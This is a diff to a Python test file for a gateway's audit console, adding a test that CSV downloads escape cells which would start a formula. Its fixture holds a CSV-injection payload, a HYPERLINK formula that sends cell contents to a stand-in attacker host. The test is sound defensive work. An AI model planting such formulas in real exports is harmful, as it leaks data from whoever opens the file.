@@ -8,14 +8,26 @@ import csv
 import io
 import json
 import re
+from dataclasses import replace
+from datetime import timedelta
 from typing import Any
 
 import pytest
-from console_support import HELD_BODY, HELD_ID, Console, csrf_of, wait_for
+from console_support import (
+    HELD_BODY,
+    HELD_ID,
+    T0,
+    Console,
+    csrf_of,
+    events_for,
+    record,
+    wait_for,
+)
 from sqlalchemy import text
 from test_console_access import console_events, queue_state
 
-from gateway.audit import AuditKeys, AuditQuery, verify
+from gateway.audit import AuditKeys, AuditQuery, AuditTrail, EventType, verify
+from gateway.queue import Writer
 
 
 def ids_on(page: str) -> list[str]:
@@ -110,6 +122,39 @@ def test_download_csv_and_json_are_audited(console: Console) -> None:
     exported = console_events(console, "console_exported")
     assert [e["format"] for e in exported] == ["csv", "json"]
     assert exported[0]["filters"] == {"sender": "staff*"} and exported[0]["user"] == "alice"
+
+
+def test_a_downloaded_csv_cell_never_starts_a_formula(console: Console) -> None:
+    """A purpose typed by staff and the recipient's +44 telephone number:
+    Excel would read either as a formula (CSV injection; an error for the
+    number).  The CSV holds them as text; the JSON download as recorded."""
+    rec = record("REC-FORMULA", T0 + timedelta(minutes=5), sender="dana@council.example",
+                 purpose='=HYPERLINK("https://evil.example/?"&A2,"Open")')
+    rec = replace(rec, recipients=(replace(rec.recipients[0], telephone="+44 1632 960003"),))
+
+    async def append(engine: Any) -> None:
+        writer = Writer(engine)
+        writer.start()
+        try:
+            await writer.submit(AuditTrail().record_op(
+                rec, events_for(rec, (EventType.RECEIVED, EventType.QUEUED))))
+        finally:
+            await writer.stop()
+
+    console.run(append)
+    client = signed_in(console, "alice")
+    try:
+        as_csv = client.get("/audit/download?format=csv&sender=dana@council.example")
+        as_json = client.get("/audit/download?format=json&sender=dana@council.example")
+    finally:
+        client.__exit__(None, None, None)
+    (row,) = csv.DictReader(io.StringIO(as_csv.text))
+    assert row["id"] == "REC-FORMULA"
+    assert row["purpose"] == "'" + rec.purpose
+    assert row["recipient_telephones"] == "'+44 1632 960003"
+    (document,) = [json.loads(line) for line in as_json.text.splitlines()]
+    assert document["purpose"] == rec.purpose
+    assert document["recipients"][0]["telephone"] == "+44 1632 960003"
 
 
 # -- one record ------------------------------------------------------------------------------
